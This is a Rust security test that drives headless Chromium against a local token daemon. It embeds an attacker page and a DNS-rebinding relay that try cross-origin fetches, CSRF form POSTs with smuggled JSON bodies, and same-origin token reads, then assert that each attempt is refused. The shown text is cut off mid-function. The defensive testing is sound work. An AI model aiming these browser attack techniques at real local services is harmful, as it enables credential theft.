//! Security test 15: a web page in headless Chromium cannot read a token from the daemon's
//! loopback TCP port, nor log the profile out or in (shared/security-reliability.md §1.3, §1.7).
//!
//! The set-up: an in-test emulator, the real `cogbroker serve` with TCP on `127.0.0.1:<port>`, the
//! profile `demo` logged in, and an attacker who controls
//! - a web server on another loopback port, serving `attack.html` (origin `http://127.0.0.1:<A>`),
//!   which runs every cross-origin attempt a page can make — `fetch()` simple, with a custom header
//!   (preflight), `no-cors`, `cors` with credentials, to `localhost`, an `XMLHttpRequest`, `<img>`,
//!   `<script>`, `<iframe>`, and `<form enctype=text/plain>` / urlencoded POSTs to `logout` and
//!   `login` — and posts what each got back to the attacker's server;
//! - a DNS name, `evil.test`, pointing first at the attacker and then at 127.0.0.1 (DNS
//!   rebinding). Chromium resolves it (`--host-resolver-rules`) to 127.0.0.2, where, on the
//!   daemon's port number, a relay plays the attacker's DNS: it serves `rebind.html` itself and
//!   connects every other request to the daemon, byte for byte (what the browser would send to
//!   127.0.0.1 after the rebind). That page's script is then *same-origin* with "its" server, so it
//!   may send `X-Cogbroker-Request` without a preflight and read any answer: only the daemon's
//!   `Host` check stands in the way, and the page reads the 403 `forbidden_host` itself.
//!
//! Then, as a user would: Chromium navigates straight to the token URL (no Origin, `Sec-Fetch-Site:
//! none`): a browser cannot add `X-Cogbroker-Request` to a navigation, so that is a 412.
//!
//! Proved: the token (taken through the CLI) is in no report, in nothing the relay carried back,
//! in no dumped page; the daemon's log shows the 403/412 refusals; the emulator saw no
//! `RevokeToken`, `GlobalSignOut` or new `InitiateAuth`; the profile is still logged in and a
//! legitimate caller still gets the same token over the same TCP port.
//!
//! A browser cannot reach the 415 check: every POST it makes carries `Origin`, which is refused
//! (403) first. The 415 for a non-JSON body is proved by the router tests.
//!
//! Needs Chromium (`/usr/bin/chromium`; `COGBROKER_CHROMIUM` overrides): `make browser` installs
//! Debian's package as root. Without it the test fails; it never passes silently.

mod login;

use std::collections::BTreeMap;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::sync::mpsc::{self, Receiver, RecvTimeoutError, Sender};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::{Context as _, bail, ensure};
use cogbroker_e2e::daemon::{EmulatorHost, ProfileSpec, Sandbox, expect_code};
use serde_json::Value;

const POOL: &str = "us-east-1_Browser1";
const CLIENT: &str = "browser-client";
const USERNAME: &str = "alice";
const PASSWORD: &str = "Alice-Passw0rd!";
const PROFILE: &str = "demo";
/// The attacker's DNS name: resolved by Chromium to [`RELAY_IP`].
const EVIL_HOST: &str = "evil.test";
/// Where the rebinding relay listens, on the daemon's port number.
const RELAY_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
/// A failure guard for one Chromium run, not a wait: the page settles within its own per-attempt
/// timeouts (10 s, in JavaScript) and reports at once.
const BROWSER_DEADLINE: Duration = Duration::from_secs(60);

/// Every attempt `attack.html` and `rebind.html` make, by the name they report.
const CROSS_ORIGIN_ATTEMPTS: &[&str] = &[
    "fetch simple GET token",
    "fetch GET token with X-Cogbroker-Request (preflight)",
    "fetch no-cors GET token",
    "fetch cors GET token with credentials",
    "fetch GET token via localhost",
    "fetch no-cors POST text/plain logout",
    "XMLHttpRequest GET token",
    "img src token",
    "script src token",
    "iframe src token",
    "form POST text/plain logout",
    "form POST text/plain login",
    "form POST urlencoded logout",
];
const REBINDING_ATTEMPTS: &[&str] = &[
    "rebinding fetch GET token with X-Cogbroker-Request",
    "rebinding fetch GET token",
    "rebinding XMLHttpRequest GET token with X-Cogbroker-Request",
    "rebinding fetch GET profiles with X-Cogbroker-Request",
    "rebinding fetch JSON POST logout with X-Cogbroker-Request",
];

fn seed() -> String {
    format!(
        r#"[[pools]]
id = "{POOL}"

[[pools.clients]]
id = "{CLIENT}"
access_token_ttl = 3600

[[pools.users]]
username = "{USERNAME}"
password = "{PASSWORD}"
status = "CONFIRMED"
email = "alice@example.com"
"#
    )
}

#[test]
fn a_web_page_cannot_read_a_token_from_the_tcp_port() -> anyhow::Result<()> {
    let chromium = chromium()?;
    let emulator = EmulatorHost::start(&seed())?;
    let sandbox = Sandbox::new(
        &emulator.endpoint,
        &[ProfileSpec::new(PROFILE, POOL, CLIENT, USERNAME)],
    )?;
    let mut daemon = sandbox.serve(&[])?;
    let daemon_addr = daemon
        .tcp
        .context("the daemon announced no TCP address in READY=1")?;
    let port = daemon_addr.port();

    let output = sandbox.cli(
        &["login", PROFILE, "--password-stdin"],
        Some(&format!("{PASSWORD}\n")),
    )?;
    expect_code(&output, 0)?;
    let output = sandbox.cli(&["token", PROFILE], None)?;
    expect_code(&output, 0)?;
    let token = String::from_utf8(output.stdout)
        .context("the token is not UTF-8")?
        .trim()
        .to_owned();
    let secrets = token_fragments(&token)?;
    let logins_before = emulator.handle.calls("InitiateAuth");

    let attacker = AttackerServer::start(port)?;
    let relay = RebindRelay::start(SocketAddr::from((RELAY_IP, port)), daemon_addr)?;

    // The attack: one page, every attempt, one report.
    let profile_dir = sandbox.dir.path().join("chromium-attack");
    let attack_url = format!("http://127.0.0.1:{}/attack.html", attacker.port);
    let mut browser = Browser::start(
        &chromium,
        &profile_dir,
        &[
            format!("--host-resolver-rules=MAP {EVIL_HOST} {RELAY_IP}"),
            attack_url,
        ],
    )?;
    let report = match attacker.reports.recv_timeout(BROWSER_DEADLINE) {
        Ok(report) => report,
        Err(error) => bail!(
            "no report from attack.html within {} s ({error}); requests the attacker saw: {:?}; \
             chromium exit: {:?}; chromium stderr:\n{}",
            BROWSER_DEADLINE.as_secs(),
            attacker.request_lines(),
            browser.try_exit(),
            browser.stderr.text()
        ),
    };
    browser.terminate()?;

    // No token anywhere the page could see (checked first: the messages below print what the
    // page got).
    for secret in &secrets {
        ensure!(
            !report.contains(secret.as_str()),
            "a token fragment is in the page's report"
        );
        ensure!(
            !attacker.requests().join("\n").contains(secret.as_str()),
            "a token fragment reached the attacker's server"
        );
        ensure!(
            !relay.carried_back().contains(secret.as_str()),
            "a token fragment went back through the rebinding relay"
        );
    }

    let results: Vec<Value> = serde_json::from_str(&report)
        .with_context(|| format!("the page's report is not a JSON array: {report}"))?;
    let by_name: BTreeMap<&str, &Value> = results
        .iter()
        .filter_map(|result| Some((result["name"].as_str()?, result)))
        .collect();
    let mut summary = String::from("what each attempt got:");
    for (name, result) in &by_name {
        summary.push_str(&format!(
            "\n  {name}: {} {}",
            result["outcome"], result["detail"]
        ));
    }
    show(&summary);

    // Every attempt ran and failed in the way a browser fails a request the daemon refused.
    for name in CROSS_ORIGIN_ATTEMPTS.iter().chain(REBINDING_ATTEMPTS) {
        let result = by_name
            .get(name)
            .with_context(|| format!("the report lacks the attempt {name:?}: {report}"))?;
        ensure!(
            result["outcome"] != "timeout",
            "{name}: the attempt did not settle: {result}"
        );
    }
    for name in CROSS_ORIGIN_ATTEMPTS {
        expect_blocked(name, by_name[name])?;
    }
    // Same-origin after the rebind: the page may read the answer, and it is the Host check's.
    for name in REBINDING_ATTEMPTS {
        let result = by_name[name];
        ensure!(
            result["outcome"] == "response"
                && result["detail"]["status"] == 403
                && result["detail"]["body"]
                    .as_str()
                    .is_some_and(|body| body.contains("\"forbidden_host\"")),
            "{name}: expected a readable 403 forbidden_host, got {result}"
        );
    }
    ensure!(
        relay.relayed() > 0,
        "the rebinding relay connected nothing to the daemon"
    );

    // A user's own navigation to the token URL: no Origin, Sec-Fetch-Site none, but no custom
    // header either.
    let token_url = format!("http://127.0.0.1:{port}/v1/profiles/{PROFILE}/token");
    let dom = Browser::dump_dom(
        &chromium,
        &sandbox.dir.path().join("chromium-navigate"),
        &token_url,
    )?;
    for secret in &secrets {
        ensure!(
            !dom.contains(secret.as_str()),
            "the token is in the navigated page"
        );
    }
    ensure!(
        dom.contains("missing_request_header"),
        "navigating to the token URL showed: {dom}"
    );

    // The daemon refused each kind, and said so in its log.
    let log = daemon.stderr_text();
    for secret in &secrets {
        ensure!(
            !log.contains(secret.as_str()),
            "a token fragment is in the daemon's log"
        );
    }
    let refusals = refusal_counts(&log);
    show(&format!("daemon refusals by (status, code): {refusals:?}"));
    for (status, code) in [
        (403, "forbidden_origin"),
        (403, "forbidden_fetch_site"),
        (403, "forbidden_host"),
        (412, "missing_request_header"),
    ] {
        ensure!(
            refusals
                .get(&(status, code.to_owned()))
                .copied()
                .unwrap_or(0)
                > 0,
            "the daemon's log shows no {status} {code} refusal:\n{log}"
        );
    }

    // Nothing happened upstream: no logout, no sign-out, no new login.
    for operation in ["RevokeToken", "GlobalSignOut"] {
        ensure!(
            emulator.handle.calls(operation) == 0,
            "the emulator saw {operation}: {:?}",
            serde_json::to_string(&emulator.handle.stats())
        );
    }
    ensure!(
        emulator.handle.calls("InitiateAuth") == logins_before,
        "a login reached the emulator during the attack"
    );

    // The profile is still logged in, and a legitimate caller still gets the token over TCP.
    let output = sandbox.cli(&["status", PROFILE, "--json"], None)?;
    expect_code(&output, 0)?;
    let status: Value = serde_json::from_slice(&output.stdout).context("status --json")?;
    ensure!(
        status["state"] == "fresh",
        "the profile is not fresh after the attack: {status}"
    );
    let url = format!("http://127.0.0.1:{port}");
    let output = sandbox.cli(&["--url", &url, "token", PROFILE], None)?;
    expect_code(&output, 0)?;
    ensure!(
        String::from_utf8_lossy(&output.stdout).trim() == token,
        "the legitimate caller got another token over TCP"
    );

    daemon.terminate()?;
    Ok(())
}

/// What the browser got and what the daemon refused, for `make browser`'s output
/// (`--nocapture`); never a secret: the no-token checks ran before.
#[allow(
    clippy::print_stderr,
    reason = "the evidence of the run, shown by `make browser`"
)]
fn show(text: &str) {
    eprintln!("{text}");
}

/// Chromium: `COGBROKER_CHROMIUM` or `chromium` on `PATH`. Missing is a failure that says what
/// to do.
fn chromium() -> anyhow::Result<PathBuf> {
    if let Some(path) = std::env::var_os("COGBROKER_CHROMIUM").filter(|path| !path.is_empty()) {
        let path = PathBuf::from(path);
        ensure!(
            path.is_file(),
            "COGBROKER_CHROMIUM names {}, which is not a file",
            path.display()
        );
        return Ok(path);
    }
    std::env::var_os("PATH")
        .iter()
        .flat_map(std::env::split_paths)
        .map(|dir| dir.join("chromium"))
        .find(|candidate| candidate.is_file())
        .context(
            "chromium is not installed, and this test needs a real browser: run `make browser` \
             (as root it installs Debian's `chromium`), or `sudo apt-get install chromium`, or set \
             COGBROKER_CHROMIUM to a Chromium binary",
        )
}

/// The token and its payload and signature segments (the header segment is the same in many
/// JWTs, so it proves nothing on its own).
fn token_fragments(token: &str) -> anyhow::Result<Vec<String>> {
    let parts: Vec<&str> = token.split('.').collect();
    ensure!(
        parts.len() == 3 && parts.iter().all(|part| part.len() >= 16),
        "the CLI printed no JWT (length {})",
        token.len()
    );
    Ok(vec![
        token.to_owned(),
        parts[1].to_owned(),
        parts[2].to_owned(),
    ])
}

/// A cross-origin attempt got nothing: a network error, an opaque answer with no body, an
/// element's error event, or a frame whose document the page may not read.
fn expect_blocked(name: &str, result: &Value) -> anyhow::Result<()> {
    let detail = &result["detail"];
    let blocked = match result["outcome"].as_str() {
        Some("error") => true,
        Some("response") => {
            detail["type"] == "opaque" && detail["status"] == 0 && detail["body"] == ""
        }
        Some("frame") => detail["readable"] == false,
        _ => false,
    };
    ensure!(blocked, "{name}: the page got something: {result}");
    Ok(())
}

/// `(status, code)` → count of the daemon's "request refused by a listener check" lines.
fn refusal_counts(log: &str) -> BTreeMap<(u16, String), usize> {
    let mut counts = BTreeMap::new();
    for line in log
        .lines()
        .filter(|line| line.contains("request refused by a listener check"))
    {
        let field = |key: &str| {
            line.split_whitespace()
                .find_map(|word| word.strip_prefix(key))
                .map(|value| value.trim_matches('"').to_owned())
        };
        let status = field("status=").and_then(|status| status.parse().ok());
        if let (Some(status), Some(code)) = (status, field("code=")) {
            *counts.entry((status, code)).or_insert(0) += 1;
        }
    }
    counts
}

/// The JavaScript both pages share: each attempt settles as `response`, `frame`, `loaded`,
/// `error` or `timeout`, never hangs (`LIMIT_MS`, with `AbortController` for fetch).
const HELPERS_JS: &str = r#"
"use strict";
const LIMIT_MS = 10000;
function describe(error) { return String(error && error.name ? error.name + ": " + error.message : error); }
function limit(promise, what, ms) {
  const wait = ms || LIMIT_MS + 2000;
  let timer;
  const timeout = new Promise((resolve) => {
    timer = setTimeout(() => resolve({ outcome: "timeout", detail: what + " did not settle in " + wait + " ms" }), wait);
  });
  return Promise.race([promise, timeout]).finally(() => clearTimeout(timer));
}
async function attempt(results, name, run) {
  let result;
  try { result = await limit(run(), name); }
  catch (error) { result = { outcome: "error", detail: describe(error) }; }
  results.push({ name: name, outcome: result.outcome, detail: result.detail });
}
async function viaFetch(url, init) {
  const controller = new AbortController();
  const timer = setTimeout(() => controller.abort(), LIMIT_MS);
  try {
    const response = await fetch(url, Object.assign({}, init || {}, { signal: controller.signal }));
    let body;
    try { body = await response.text(); } catch (error) { body = "unreadable: " + describe(error); }
    return { outcome: "response", detail: { type: response.type, status: response.status, body: body } };
  } finally { clearTimeout(timer); }
}
function viaXhr(url, headers) {
  return new Promise((resolve, reject) => {
    const xhr = new XMLHttpRequest();
    xhr.open("GET", url);
    xhr.timeout = LIMIT_MS;
    for (const [name, value] of Object.entries(headers || {})) xhr.setRequestHeader(name, value);
    xhr.onload = () => resolve({ outcome: "response", detail: { type: "xhr", status: xhr.status, body: xhr.responseText } });
    xhr.onerror = () => reject(new Error("XMLHttpRequest error event, status " + xhr.status));
    xhr.ontimeout = () => reject(new Error("XMLHttpRequest timeout"));
    xhr.send();
  });
}
"#;

/// The attacker's page, served from `http://127.0.0.1:<attacker port>/attack.html`.
fn attack_page(daemon_port: u16) -> String {
    let script = r#"
const DAEMON = "http://127.0.0.1:" + DAEMON_PORT;
const TOKEN = DAEMON + "/v1/profiles/demo/token";
const LOGOUT = DAEMON + "/v1/profiles/demo/logout";
const LOGIN = DAEMON + "/v1/profiles/demo/login";
const REBIND = "http://evil.test:" + DAEMON_PORT + "/rebind.html";

function viaElement(tag, url) {
  return new Promise((resolve, reject) => {
    const element = document.createElement(tag);
    element.onload = () => resolve({ outcome: "loaded", detail: { width: element.naturalWidth === undefined ? null : element.naturalWidth } });
    element.onerror = () => reject(new Error("<" + tag + "> error event"));
    element.src = url;
    document.body.appendChild(element);
  });
}
function readFrame(frame) {
  try {
    const doc = frame.contentDocument;
    if (!doc) return { readable: false, why: "contentDocument is null (cross-origin)" };
    return { readable: true, text: doc.documentElement ? doc.documentElement.outerHTML : "" };
  } catch (error) { return { readable: false, why: describe(error) }; }
}
let frames = 0;
function newFrame() {
  const frame = document.createElement("iframe");
  frame.name = "sink" + (frames++);
  document.body.appendChild(frame);
  return frame;
}
function viaFrame(url) {
  return new Promise((resolve) => {
    const frame = newFrame();
    frame.onload = () => resolve({ outcome: "frame", detail: readFrame(frame) });
    frame.src = url;
  });
}
function viaForm(url, enctype, fields) {
  return new Promise((resolve) => {
    const frame = newFrame();
    frame.onload = () => resolve({ outcome: "frame", detail: readFrame(frame) });
    const form = document.createElement("form");
    form.method = "POST";
    form.action = url;
    form.enctype = enctype;
    form.target = frame.name;
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.type = "hidden";
      input.name = name;
      input.value = value;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
  });
}
function rebinding() {
  return new Promise((resolve, reject) => {
    window.addEventListener("message", (event) => {
      if (event.origin === "http://evil.test:" + DAEMON_PORT) resolve(event.data);
    });
    const frame = document.createElement("iframe");
    frame.onerror = () => reject(new Error("the rebinding frame did not load"));
    frame.src = REBIND;
    document.body.appendChild(frame);
  });
}

async function run() {
  const results = [];
  const jsonish = { '{"password":"Attacker-Passw0rd!","x":"': '"}' };
  await Promise.all([
    attempt(results, "fetch simple GET token", () => viaFetch(TOKEN)),
    attempt(results, "fetch GET token with X-Cogbroker-Request (preflight)", () => viaFetch(TOKEN, { headers: { "X-Cogbroker-Request": "1" } })),
    attempt(results, "fetch no-cors GET token", () => viaFetch(TOKEN, { mode: "no-cors" })),
    attempt(results, "fetch cors GET token with credentials", () => viaFetch(TOKEN, { mode: "cors", credentials: "include" })),
    attempt(results, "fetch GET token via localhost", () => viaFetch("http://localhost:" + DAEMON_PORT + "/v1/profiles/demo/token")),
    attempt(results, "fetch no-cors POST text/plain logout", () => viaFetch(LOGOUT, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" })),
    attempt(results, "XMLHttpRequest GET token", () => viaXhr(TOKEN)),
    attempt(results, "img src token", () => viaElement("img", TOKEN)),
    attempt(results, "script src token", () => viaElement("script", TOKEN)),
    attempt(results, "iframe src token", () => viaFrame(TOKEN)),
    attempt(results, "form POST text/plain logout", () => viaForm(LOGOUT, "text/plain", { '{"forget_device":true,"x":"': '"}' })),
    attempt(results, "form POST text/plain login", () => viaForm(LOGIN, "text/plain", jsonish)),
    attempt(results, "form POST urlencoded logout", () => viaForm(LOGOUT, "application/x-www-form-urlencoded", { forget_device: "true" })),
  ]);
  let rebound = [];
  try { rebound = await limit(rebinding(), "rebinding", 3 * LIMIT_MS); } catch (error) { rebound = { outcome: "error", detail: describe(error) }; }
  if (Array.isArray(rebound)) { results.push(...rebound); }
  else { results.push({ name: "rebinding", outcome: rebound.outcome, detail: rebound.detail }); }
  const report = JSON.stringify(results);
  document.getElementById("out").textContent = report;
  await fetch("/report", { method: "POST", headers: { "Content-Type": "application/json" }, body: report });
}
run().catch((error) => fetch("/report", { method: "POST", body: JSON.stringify([{ name: "page", outcome: "crash", detail: describe(error) }]) }));
"#;
    format!(
        "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>attack</title></head>\n\
         <body><pre id=\"out\">running</pre>\n<script>\nconst DAEMON_PORT = {daemon_port};\n\
         {HELPERS_JS}\n{script}</script></body></html>\n"
    )
}

/// The page the rebinding relay serves as `http://evil.test:<daemon port>/rebind.html`: every
/// later request to that origin reaches the daemon, so these are same-origin requests.
fn rebind_page() -> String {
    let script = r#"
const HEADER = { "X-Cogbroker-Request": "1" };
async function run() {
  const results = [];
  await Promise.all([
    attempt(results, "rebinding fetch GET token with X-Cogbroker-Request", () => viaFetch("/v1/profiles/demo/token", { headers: HEADER })),
    attempt(results, "rebinding fetch GET token", () => viaFetch("/v1/profiles/demo/token")),
    attempt(results, "rebinding XMLHttpRequest GET token with X-Cogbroker-Request", () => viaXhr("/v1/profiles/demo/token", HEADER)),
    attempt(results, "rebinding fetch GET profiles with X-Cogbroker-Request", () => viaFetch("/v1/profiles", { headers: HEADER })),
    attempt(results, "rebinding fetch JSON POST logout with X-Cogbroker-Request", () => viaFetch("/v1/profiles/demo/logout", { method: "POST", headers: Object.assign({ "Content-Type": "application/json" }, HEADER), body: "{}" })),
  ]);
  parent.postMessage(results, "*");
}
run().catch((error) => parent.postMessage([{ name: "rebinding page", outcome: "crash", detail: describe(error) }], "*"));
"#;
    format!(
        "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>rebind</title></head>\n\
         <body><script>\n{HELPERS_JS}\n{script}</script></body></html>\n"
    )
}

/// One HTTP/1.1 request as read off a socket: its head (request line and headers) and body.
struct RawRequest {
    head: String,
    body: Vec<u8>,
}

impl RawRequest {
    /// Reads one request; `None` when the peer closed before sending one.
    fn read(reader: &mut BufReader<TcpStream>) -> anyhow::Result<Option<Self>> {
        let mut head = String::new();
        loop {
            let mut line = String::new();
            if reader.read_line(&mut line).context("read a request line")? == 0 {
                return Ok(if head.is_empty() {
                    None
                } else {
                    Some(Self::empty(head))
                });
            }
            head.push_str(&line);
            if line == "\r\n" || line == "\n" {
                break;
            }
        }
        let length = head
            .lines()
            .find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length")
                    .then(|| value.trim().parse::<usize>().ok())?
            })
            .unwrap_or(0);
        let mut body = vec![0; length];
        reader
            .read_exact(&mut body)
            .context("read a request body")?;
        Ok(Some(Self { head, body }))
    }

    fn empty(head: String) -> Self {
        Self {
            head,
            body: Vec::new(),
        }
    }

    fn method_and_path(&self) -> (&str, &str) {
        let mut words = self.head.split_whitespace();
        (words.next().unwrap_or(""), words.next().unwrap_or(""))
    }
}

fn respond(stream: &mut TcpStream, status: &str, content_type: &str, body: &str) {
    let _ = write!(
        stream,
        "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\n\
         Cache-Control: no-store\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    let _ = stream.flush();
}

/// The attacker's web server on 127.0.0.1: serves `attack.html`, takes the page's report.
struct AttackerServer {
    port: u16,
    reports: Receiver<String>,
    requests: Arc<Mutex<Vec<String>>>,
}

impl AttackerServer {
    fn start(daemon_port: u16) -> anyhow::Result<Self> {
        let listener =
            TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).context("bind the attacker's server")?;
        let port = listener.local_addr()?.port();
        let page = Arc::new(attack_page(daemon_port));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let (sender, reports) = mpsc::channel();
        let seen = Arc::clone(&requests);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let page = Arc::clone(&page);
                let seen = Arc::clone(&seen);
                let sender = sender.clone();
                std::thread::spawn(move || serve_attacker(stream, &page, &seen, &sender));
            }
        });
        Ok(Self {
            port,
            reports,
            requests,
        })
    }

    /// The request line of every request so far, for a failure message.
    fn request_lines(&self) -> Vec<String> {
        self.requests()
            .iter()
            .map(|request| request.lines().next().unwrap_or_default().to_owned())
            .collect()
    }

    /// Every request the attacker's server received (head and body), for the no-token check.
    fn requests(&self) -> Vec<String> {
        self.requests
            .lock()
            .map(|requests| requests.clone())
            .unwrap_or_default()
    }
}

fn serve_attacker(
    stream: TcpStream,
    page: &str,
    seen: &Mutex<Vec<String>>,
    reports: &Sender<String>,
) {
    let Ok(mut writer) = stream.try_clone() else {
        return;
    };
    let mut reader = BufReader::new(stream);
    let Ok(Some(request)) = RawRequest::read(&mut reader) else {
        return;
    };
    let body = String::from_utf8_lossy(&request.body).into_owned();
    if let Ok(mut seen) = seen.lock() {
        seen.push(format!("{}{body}", request.head));
    }
    match request.method_and_path() {
        ("GET", "/attack.html") => respond(&mut writer, "200 OK", "text/html; charset=utf-8", page),
        ("POST", "/report") => {
            respond(&mut writer, "204 No Content", "text/plain", "");
            let _ = reports.send(body);
        }
        _ => respond(&mut writer, "404 Not Found", "text/plain", "not found"),
    }
}

/// DNS rebinding, played on 127.0.0.2 at the daemon's port: `/rebind.html` comes from the
/// attacker, every other connection is piped to the daemon unchanged.
struct RebindRelay {
    back: Arc<Mutex<Vec<u8>>>,
    relayed: Arc<Mutex<usize>>,
}

impl RebindRelay {
    fn start(listen: SocketAddr, daemon: SocketAddr) -> anyhow::Result<Self> {
        let listener = TcpListener::bind(listen)
            .with_context(|| format!("bind the rebinding relay on {listen}"))?;
        let back = Arc::new(Mutex::new(Vec::new()));
        let relayed = Arc::new(Mutex::new(0));
        let (back_sink, count) = (Arc::clone(&back), Arc::clone(&relayed));
        let page = Arc::new(rebind_page());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (back, count, page) = (
                    Arc::clone(&back_sink),
                    Arc::clone(&count),
                    Arc::clone(&page),
                );
                std::thread::spawn(move || relay_connection(stream, daemon, &page, &back, &count));
            }
        });
        Ok(Self { back, relayed })
    }

    /// Everything the daemon sent back through the relay.
    fn carried_back(&self) -> String {
        self.back
            .lock()
            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
            .unwrap_or_default()
    }

    /// How many connections reached the daemon through the relay.
    fn relayed(&self) -> usize {
        self.relayed.lock().map(|count| *count).unwrap_or(0)
    }
}

fn relay_connection(
    stream: TcpStream,
    daemon: SocketAddr,
    page: &str,
    back: &Mutex<Vec<u8>>,
    count: &Mutex<usize>,
) {
    let Ok(mut client) = stream.try_clone() else {
        return;
    };
    let mut reader = BufReader::new(stream);
    let Ok(Some(first)) = RawRequest::read(&mut reader) else {
        return;
    };
    if first.method_and_path().1 == "/rebind.html" {
        respond(&mut client, "200 OK", "text/html; charset=utf-8", page);
        return;
    }
    // From here on "evil.test" resolves to the daemon: the browser's bytes go there unchanged.
    let Ok(mut upstream) = TcpStream::connect(daemon) else {
        return;
    };
    if let Ok(mut count) = count.lock() {
        *count += 1;
    }
    let buffered = reader.buffer().to_vec();
    if upstream.write_all(first.head.as_bytes()).is_err()
        || upstream.write_all(&first.body).is_err()
        || upstream.write_all(&buffered).is_err()
    {
        return;
    }
    let Ok(mut to_daemon) = upstream.try_clone() else {
        return;
    };
    let mut from_client = reader.into_inner();
    let forward = std::thread::spawn(move || {
        let _ = std::io::copy(&mut from_client, &mut to_daemon);
        let _ = to_daemon.shutdown(Shutdown::Write);
    });
    let mut chunk = [0u8; 8192];
    loop {
        match upstream.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(length) => {
                if let Ok(mut back) = back.lock() {
                    back.extend_from_slice(&chunk[..length]);
                }
                if client.write_all(&chunk[..length]).is_err() {
                    break;
                }
            }
        }
    }
    let _ = client.shutdown(Shutdown::Both);
    let _ = forward.join();
}

/// A headless Chromium process with a fresh profile directory, flags as on CI (root: no sandbox;
/// no background networking: the machine has no network).
struct Browser {
    pid: i32,
    exit: Receiver<std::io::Result<ExitStatus>>,
    exited: Option<ExitStatus>,
    waiter: Option<JoinHandle<()>>,
    stdout: Collector,
    stderr: Collector,
}

impl Browser {
    fn command(chromium: &Path, profile_dir: &Path) -> anyhow::Result<Command> {
        std::fs::create_dir_all(profile_dir).context("create Chromium's profile directory")?;
        let mut command = Command::new(chromium);
        command
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--disable-dev-shm-usage",
            ])
            .arg(format!("--user-data-dir={}", profile_dir.display()))
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        Ok(command)
    }

    fn start(chromium: &Path, profile_dir: &Path, args: &[String]) -> anyhow::Result<Self> {
        let mut command = Self::command(chromium, profile_dir)?;
        command.args(args);
        let mut child = command
            .spawn()
            .with_context(|| format!("start {}", chromium.display()))?;
        let pid = i32::try_from(child.id()).context("pid out of range")?;
        let stdout = Collector::spawn(child.stdout.take().context("no stdout pipe")?);
        let stderr = Collector::spawn(child.stderr.take().context("no stderr pipe")?);
        let (sender, exit) = mpsc::channel();
        let waiter = std::thread::spawn(move || {
            let _ = sender.send(child.wait());
        });
        Ok(Self {
            pid,
            exit,
            exited: None,
            waiter: Some(waiter),
            stdout,
            stderr,
        })
    }

    /// `chromium --dump-dom URL`: loads the page, prints its DOM, exits.
    fn dump_dom(chromium: &Path, profile_dir: &Path, url: &str) -> anyhow::Result<String> {
        let mut browser = Self::start(
            chromium,
            profile_dir,
            &["--dump-dom".to_owned(), url.to_owned()],
        )?;
        let status = browser.wait(BROWSER_DEADLINE)?;
        browser.stdout.finish(BROWSER_DEADLINE);
        let dom = browser.stdout.text();
        ensure!(
            status.success() && !dom.is_empty(),
            "chromium --dump-dom {url} ended with {status} and printed {} bytes; stderr:\n{}",
            dom.len(),
            browser.stderr.text()
        );
        Ok(dom)
    }

    fn try_exit(&mut self) -> Option<ExitStatus> {
        if self.exited.is_none() {
            if let Ok(Ok(status)) = self.exit.try_recv() {
                self.exited = Some(status);
            }
        }
        self.exited
    }

    fn wait(&mut self, deadline: Duration) -> anyhow::Result<ExitStatus> {
        if let Some(status) = self.exited {
            return Ok(status);
        }
        match self.exit.recv_timeout(deadline) {
            Ok(result) => {
                let status = result.context("wait for chromium")?;
                self.exited = Some(status);
                if let Some(waiter) = self.waiter.take() {
                    let _ = waiter.join();
                }
                Ok(status)
            }
            Err(RecvTimeoutError::Timeout) => {
                self.kill();
                bail!(
                    "chromium did not finish within {} s; stderr:\n{}",
                    deadline.as_secs(),
                    self.stderr.text()
                )
            }
            Err(RecvTimeoutError::Disconnected) => bail!("chromium's waiter thread vanished"),
        }
    }

    /// SIGTERM (Chromium then ends its renderers and helpers), then the exit.
    fn terminate(&mut self) -> anyhow::Result<ExitStatus> {
        if self.try_exit().is_none() {
            self.signal(rustix::process::Signal::TERM);
        }
        self.wait(BROWSER_DEADLINE)
    }

    fn kill(&mut self) {
        if self.try_exit().is_none() {
            self.signal(rustix::process::Signal::KILL);
            let _ = self.exit.recv_timeout(BROWSER_DEADLINE);
        }
    }

    fn signal(&self, signal: rustix::process::Signal) {
        if let Some(pid) = rustix::process::Pid::from_raw(self.pid) {
            let _ = rustix::process::kill_process(pid, signal);
        }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        self.kill();
    }
}

/// A thread copying a pipe into memory; it says when the pipe reached its end.
struct Collector {
    buffer: Arc<Mutex<Vec<u8>>>,
    done: Receiver<()>,
}

impl Collector {
    fn spawn(mut pipe: impl std::io::Read + Send + 'static) -> Self {
        let buffer = Arc::new(Mutex::new(Vec::new()));
        let sink = Arc::clone(&buffer);
        let (sender, done) = mpsc::channel();
        std::thread::spawn(move || {
            let mut chunk = [0u8; 4096];
            loop {
                match pipe.read(&mut chunk) {
                    Ok(0) | Err(_) => break,
                    Ok(length) => {
                        if let Ok(mut buffer) = sink.lock() {
                            buffer.extend_from_slice(&chunk[..length]);
                        }
                    }
                }
            }
            let _ = sender.send(());
        });
        Self { buffer, done }
    }

    /// Waits (bounded) until the pipe's end: everything the process wrote is in.
    fn finish(&self, deadline: Duration) {
        let _ = self.done.recv_timeout(deadline);
    }

    fn text(&self) -> String {
        self.buffer
            .lock()
